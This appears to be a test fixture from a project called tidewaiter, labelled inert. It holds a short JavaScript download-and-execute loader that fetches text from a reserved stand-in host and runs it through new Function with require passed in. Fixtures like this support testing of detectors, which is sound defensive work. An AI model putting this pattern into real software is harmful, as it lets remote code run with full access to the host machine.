// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
(async () => {
  const answer = await fetch("https://payload.invalid/x");
  const text = await answer.text();
  new Function("require", text)(require);
})();
